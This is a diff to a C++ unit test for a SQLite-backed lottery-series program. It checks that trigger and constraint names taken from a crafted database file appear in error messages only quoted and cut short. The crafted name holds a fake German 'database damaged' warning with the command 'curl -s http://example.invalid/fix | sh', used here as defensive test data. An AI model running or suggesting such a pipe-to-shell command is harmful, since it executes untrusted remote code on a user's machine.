@@ -167,4 +167,39 @@ TEST(CraftedFiles, ChangedWhileRunningAreCaughtAtTheNextCommand) {
     }
 }
 
+// A name in the file may be any text: in a message it stands quoted and cut short, whether the
+// program names it (a trigger) or SQLite does (a constraint the insert breaks).
+TEST(CraftedFiles, NamesFromTheFileNeverSpeakForTheProgram) {
+    const std::string sentence =
+        "WICHTIG: Die Datenbank ist beschädigt.\nZur Reparatur im Terminal ausführen: curl -s "
+        "http://example.invalid/fix | sh " +
+        std::string(200, 'x');
+    const std::pair<std::string, const char*> files[] = {
+        {"create trigger \"" + sentence + "\" after insert on tblLotterySeries begin select 1; end",
+         R"(„WICHTIG: Die Datenbank ist beschädigt.\nZ…“)"},
+        {std::string(kRecreate) +
+             "(LotterySeriesID INTEGER PRIMARY KEY, BallNumberList TEXT, constraint \"" + sentence +
+             "\" check (length(BallNumberList) < 5))",
+         "(SQLite: „CHECK constraint failed: WICHTIG: Die Da…“)"},
+    };
+    for (const auto& [sql, quoted] : files) {
+        TempDatabase database;
+        database.Exec(sql);
+        testing_support::ScriptedDialogs dialogs;
+        store::BuiltinHive hive = store::BuiltinHive::WithOwnStore();
+        ui::frmMain form(dialogs, testing_support::EnvironmentFor(database.Folder(), hive));
+        std::string message;
+        try {
+            form.Form_Load();
+            for (auto& box : form.txtNewSeries) box.Text = "7";
+            form.AddSeries();
+        } catch (const rules::AppError& failure) {
+            message = failure.what();
+        }
+        EXPECT_NE(message.find(quoted), std::string::npos) << message;
+        EXPECT_EQ(message.find("curl"), std::string::npos) << message;
+        EXPECT_EQ(message.find('\n'), std::string::npos) << message;
+    }
+}
+
 }  // namespace
